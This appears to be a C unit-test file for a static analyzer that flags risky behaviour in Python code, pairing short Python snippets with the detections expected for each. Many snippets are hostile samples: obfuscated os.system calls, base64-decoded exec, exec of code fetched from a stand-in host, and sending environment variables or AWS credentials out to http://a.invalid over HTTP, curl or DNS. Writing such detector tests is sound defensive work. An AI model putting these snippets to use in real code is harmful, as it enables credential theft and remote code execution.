@@ -1,0 +1,175 @@
+/* SPDX-License-Identifier: Apache-2.0
+ *
+ * behavior_python_test.c - what is said of Python code.
+ */
+#include "behavior_case.h"
+
+#define NOTHING "capability\nflow\naws-call\nendpoint"
+
+static const struct behavior_case cases[] = {
+    /* names and aliases */
+    { "import os\nos.system('id')\n", "capability process os.system id import line:2", "flow" },
+    { "import os as o\no.system('id')\n", "capability process os.system id", "hidden" },
+    { "from os import system as s\ns('id')\n", "capability process os.system id", NULL },
+    { "from os import *\nsystem('id')\n", "capability process os.system id", NULL },
+    { "x = __import__('o' + 's')\nx.system('id')\n",
+      "capability process os.system id\ncapability dynamic-import os", NULL },
+    { "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
+      "capability process os.system id put together\ncapability hidden-name os.system", NULL },
+    { "import os\nos.__dict__['po' 'pen']('id')\n", "capability process os.popen id", NULL },
+    { "globals()['ev' + 'al']('1')\n", "capability dynamic-code eval\ncapability hidden-name eval",
+      NULL },
+    { "import sys\nsys.modules['os'].system('id')\n", "capability process os.system", NULL },
+    { "import importlib\nimportlib.import_module('subp' + 'rocess').call('id')\n",
+      "capability process subprocess.call\ncapability dynamic-import subprocess", NULL },
+    { "import os\nf = os.system\ndef g(x):\n    return x('id')\ng(f)\n",
+      "capability process os.system import", NULL },
+    { "import functools, os\nfunctools.partial(os.system, 'id')()\n",
+      "capability process os.system id", NULL },
+    /* texts that are put together */
+    { "import requests\nrequests.get('ht' + 'tps://' + 'a.example' + '.com')\n",
+      "capability network requests.get https://a.example.com\nendpoint https://a.example.com",
+      NULL },
+    { "import socket\ns = socket.socket()\ns.connect((''.join(chr(c) for c in "
+      "[97,46,105,110,118,97,108,105,100]), 80))\n",
+      "capability network connect a.invalid", NULL },
+    { "import requests\nrequests.get('dilavni.a//:ptth'[::-1])\n", "endpoint http://a.invalid",
+      NULL },
+    { "import requests\nrequests.get(''.join(reversed('dilavni.a//:ptth')))\n",
+      "endpoint http://a.invalid", NULL },
+    { "import requests\nrequests.get('%s://%s' % ('http', 'a.' 'invalid'))\n",
+      "endpoint http://a.invalid", NULL },
+    { "import requests\nrequests.get('{}://{h}'.format('http', h='a.' + 'invalid'))\n",
+      "endpoint http://a.invalid", NULL },
+    { "import requests\nh='inva'\nrequests.get(f'http://a.{h}lid')\n", "endpoint http://a.invalid",
+      NULL },
+    { "import requests\nrequests.get('\\x68ttp://\\u0061.inv' 'alid')\n",
+      "endpoint http://a.invalid", NULL },
+    { "import requests, "
+      "base64\nrequests.get(base64.b64decode('aHR0cDovL2EuaW52YWxpZA==').decode())\n",
+      "endpoint http://a.invalid\ncapability decode base64.b64decode", NULL },
+    { "import requests\nrequests.get(bytes.fromhex('687474703a2f2f612e696e76616c6964').decode())\n",
+      "endpoint http://a.invalid", NULL },
+    { "import requests\nk=b'jvvr8--c,klt' b'cnkf'\nrequests.get(bytes(c ^ 2 for c in "
+      "k).decode())\n",
+      "endpoint http://", NULL },
+    { "import requests\nu=''\nfor c in [104,116,116,112,58,47,47,97,46,98]:\n    u += chr(c)\n"
+      "requests.get(u)\n",
+      "endpoint http://a.b", NULL },
+    { "import requests, codecs\nrequests.get(codecs.decode('uggc://n.vainyvq', 'rot13'))\n",
+      "endpoint http://a.invalid", NULL },
+    /* code that is decoded, and what it does */
+    { "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))\n",
+      "capability decode-run exec import\nflow decode eval\n"
+      "capability process os.system id is run as code",
+      NULL },
+    { "import zlib, base64\nexec(zlib.decompress(base64.b64decode(data)))\n",
+      "capability decode-run exec", NULL },
+    { "import marshal, base64\nexec(marshal.loads(base64.b64decode(x)))\n",
+      "capability decode-run exec\ncapability dynamic-code marshal.loads", NULL },
+    { "exec(''.join(chr(c ^ 7) for c in data))\n", "capability decode-run exec", NULL },
+    { "import base64\nc = compile(base64.b64decode(x), '', 'exec')\nexec(c)\n",
+      "capability decode-run", NULL },
+    /* the environment */
+    { "import os\nx = os.environ['HOME']\n", "capability env-read os.environ HOME import",
+      "env-all" },
+    { "import os\ndef f():\n    return os.getenv('A')\n", "capability env-read A call", "import" },
+    { "import os\nprint(dict(os.environ))\n", "capability env-all os.environ", NULL },
+    { "from os import environ\nfor k, v in environ.items():\n    print(k)\n", "capability env-all",
+      NULL },
+    { "import os\nos.environ['X'] = '1'\n", "capability env-write X=1", "env-read" },
+    { "import os\ndel os.environ['X']\n", "capability env-write X", NULL },
+    { "import os\nos.environ.update(A='1')\n", "capability env-write", "env-all" },
+    { "import os\nk = os.environ['AWS_SECRET_ACCESS_KEY']\n",
+      "capability credentials AWS_SECRET_ACCESS_KEY", NULL },
+    { "open('/proc/self/environ').read()\n", "capability credentials /proc/self/environ", NULL },
+    { "u = 'http://169.254.170.2' + path\n", "capability metadata 169.254.170.2", NULL },
+    { "import urllib.request as r\nr.urlopen('http://' + api + '/2020-01-01/extension/register')\n",
+      "capability extensions-api\ncapability network urlopen", NULL },
+    { "import boto3\nc = boto3.Session().get_credentials()\n", "capability credentials", NULL },
+    /* flows */
+    { "import os, requests\nrequests.post('http://a.invalid', json=dict(os.environ))\n",
+      "flow env-all network requests.post import", NULL },
+    { "import os, requests, json\ndef collect():\n    return {k: v for k, v in "
+      "os.environ.items()}\n"
+      "def send(d):\n    requests.post('http://a.invalid', data=json.dumps(d))\n"
+      "def handler(event, context):\n    send(collect())\n",
+      "flow env-all network call", "flow import" },
+    { "import os, subprocess\nt = os.environ['AWS_SESSION_TOKEN']\n"
+      "subprocess.run(['curl', '-d', t, 'http://a.invalid'])\n",
+      "flow credentials process subprocess.run\ncapability network curl", NULL },
+    { "import os, socket\nt = os.environ['AWS_SECRET_ACCESS_KEY']\n"
+      "socket.gethostbyname(t.lower() + '.a.invalid')\n",
+      "flow credentials dns", NULL },
+    { "import requests\nd = open('/root/.aws/credentials').read()\n"
+      "requests.put('http://a.invalid', data=d)\n",
+      "flow secret network", NULL },
+    { "import requests\nexec(requests.get('http://a.invalid').text)\n", "flow network eval exec",
+      NULL },
+    { "import urllib.request\nd = urllib.request.urlopen('http://a.invalid').read()\n"
+      "with open('/tmp/x', 'wb') as f:\n    f.write(d)\n",
+      "flow network file\ncapability file-write /tmp/x", NULL },
+    { "import os, boto3\nboto3.client('s3').put_object(Bucket='b', Body=str(dict(os.environ)))\n",
+      "flow env-all aws-call\naws-call s3 PutObject", NULL },
+    { "class A:\n    def __init__(self):\n        import os\n        self.e = dict(os.environ)\n"
+      "    def go(self):\n        import requests\n        requests.post('http://a.invalid', "
+      "self.e)\n",
+      "flow env-all network", NULL },
+    { "import os, subprocess\nsubprocess.run(['ls'], env=os.environ)\n", "capability process ls",
+      "flow\nenv-all" },
+    { "import threading, os, requests\ndef f(d):\n    requests.post('http://a.invalid', data=d)\n"
+      "threading.Thread(target=f, args=(dict(os.environ),)).start()\n",
+      "flow env-all network import", NULL },
+    /* AWS */
+    { "import boto3\nclass A:\n    def __init__(self):\n        self.c = boto3.client('sts')\n"
+      "    def f(self):\n        return self.c.assume_role(RoleArn='x')\n",
+      "aws-call sts AssumeRole", NULL },
+    { "import boto3\nboto3.resource('s3').Object('a', 'b').put(Body='x')\n", "aws-call s3 Put",
+      NULL },
+    { "import boto3\nfor p in boto3.client('iam').get_paginator('list_users').paginate():\n    "
+      "pass\n",
+      "aws-call iam ListUsers", "GetPaginator\nPaginate" },
+    /* patches */
+    { "import botocore.client\nbotocore.client.BaseClient._make_api_call = lambda *a: None\n",
+      "capability patch-sdk botocore.client.BaseClient._make_api_call", NULL },
+    { "import botocore.client\nsetattr(botocore.client.BaseClient, '_make_' + 'api_call', f)\n",
+      "capability patch-sdk _make_api_call", NULL },
+    { "import sys\nsys.meta_path.insert(0, F())\n", "capability patch-loader sys.meta_path", NULL },
+    { "import builtins\ndef f(*a): pass\nbuiltins.__import__ = f\n", "capability patch", NULL },
+    { "import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n",
+      "capability tls-unverified", NULL },
+    { "import requests\nrequests.get('https://a.invalid', verify=False)\n",
+      "capability tls-unverified", NULL },
+    /* other powers */
+    { "import ctypes\nctypes.CDLL('./x.so')\n", "capability native-load x.so", NULL },
+    { "import os\nos.system('pip install x')\n", "capability package-manager pip", NULL },
+    { "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', "
+      "'x'])\n",
+      "capability process\ncapability package-manager", NULL },
+    { "import sys\nsys.path.insert(0, '/tmp')\n", "capability module-path", NULL },
+    { "if __name__ == '__main__':\n    import os\n    os.system('id')\n", "process call",
+      "process import" },
+    /* what is nothing */
+    { "import re\nre.compile('x')\nx = [1]\nx.append(2)\n", NULL, NOTHING },
+    { "\"\"\"os.system('id') requests.get http://169.254.169.254/\"\"\"\n# eval(exec)\n", NULL,
+      NOTHING },
+    { "class C:\n    def get(self, a):\n        return getattr(self, a)\n    def exec(self): pass\n"
+      "C().exec()\n",
+      NULL, NOTHING },
+    { "def f(requests):\n    requests.get('x')\n", NULL, NOTHING },
+    { "import os\nprint(os.path.join('a', 'b'), os.getcwd())\n", NULL, NOTHING },
+    { "import json\nd = json.loads('{}')\nd.get('x')\n", NULL, NOTHING },
+    { "import base64\nprint(base64.b64encode(b'x'))\n", NULL, NOTHING },
+};
+
+static void test_cases(void **state)
+{
+    (void)state;
+    check_cases(LW_LANG_PYTHON, cases, LW_COUNT(cases));
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = { cmocka_unit_test(test_cases) };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
